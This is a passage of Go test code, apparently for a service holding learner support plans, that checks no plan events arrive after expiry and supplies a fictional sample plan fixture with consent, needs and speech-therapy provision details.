	for end := time.Now().Add(4 * time.Second); time.Now().Before(end) && !closed; {
		if save() {
			saved++
		}
		var got []string
		got, closed = collect(500 * time.Millisecond)
		after = append(after, got...)
	}
	if saved == 0 && !closed {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, "could not save a version after expiry")
		return
	}
	nexts := 0
	for _, t := range after {
		if t == "next" {
			nexts++
		}
	}
	a.report(what, answer{took: time.Since(start), code: "-"}, nexts == 0,
		fmt.Sprintf("%d plan events after expiry; connection closed: %v", nexts, closed))
}

// sampleContent is plan content the service accepts (as the server tests'
// fixture).
func sampleContent() map[string]any {
	return map[string]any{
		"consent": map[string]any{"consentGiven": true, "consentDetails": "Consent given by the parent."},
		"profile": map[string]any{
			"importantToMe":  []any{map[string]any{"text": "Football and my dog.", "directQuote": true}},
			"likeAndAdmire":  []any{map[string]any{"text": "Kind and funny."}},
			"howToSupportMe": []any{map[string]any{"text": "Give me time to answer.", "directQuote": true}},
		},
		"needs": []any{map[string]any{"description": "Speech, language and communication needs", "impactOnLearning": "Finds long spoken instructions hard to follow."}},
		"provision": []any{map[string]any{
			"id": "row_salt", "intendedOutcome": "Follow two-step instructions by July", "provision": "30 minutes of 1:1 speech and language therapy weekly",
			"welshMedium": true, "provider": "Cardiff and Vale University Health Board", "providerType": "NHS_BODY",
			"startDate": "2026-09-07", "reviewOrEndDate": "2027-07-16", "dateKind": "REVIEW",
			"rationale": "SaLT assessment", "nhsSecured": true, "nhsBody": "Cardiff and Vale University Health Board",
			"quantity": map[string]any{"minutesPerSession": 30, "sessions": 1, "per": "WEEK", "groupSize": 1},
		}},
		"meetingSummary": "Meeting held with the learner and their mother.",
	}
}

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}
